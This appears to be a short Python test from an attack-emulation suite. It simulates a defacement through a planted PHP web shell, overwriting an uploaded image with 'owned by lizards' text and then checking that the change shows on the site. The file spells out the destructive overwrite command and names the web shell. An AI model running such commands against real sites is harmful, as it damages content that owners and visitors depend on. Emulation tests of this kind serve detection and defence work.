#!/usr/bin/python3 -B
"""Tampering with files: a web shell writes over a picture that everybody sees (T1491.002)."""

from attack import Attack


def run(attack: Attack) -> bool:
    attack.media("cd /srv/uploads; cp 7.jpg /tmp; printf 'GIF89a owned by lizards' >7.jpg",
                 "lizard-2.php")
    seen = attack.visit("GET", "/media/image?name=7.jpg")[1]
    return attack.prove("owned by lizards" in seen, seen=seen)


Attack("T1505.003, T1491.002", ["edge", "media"], ["/srv/uploads/7.jpg"]).main(run)
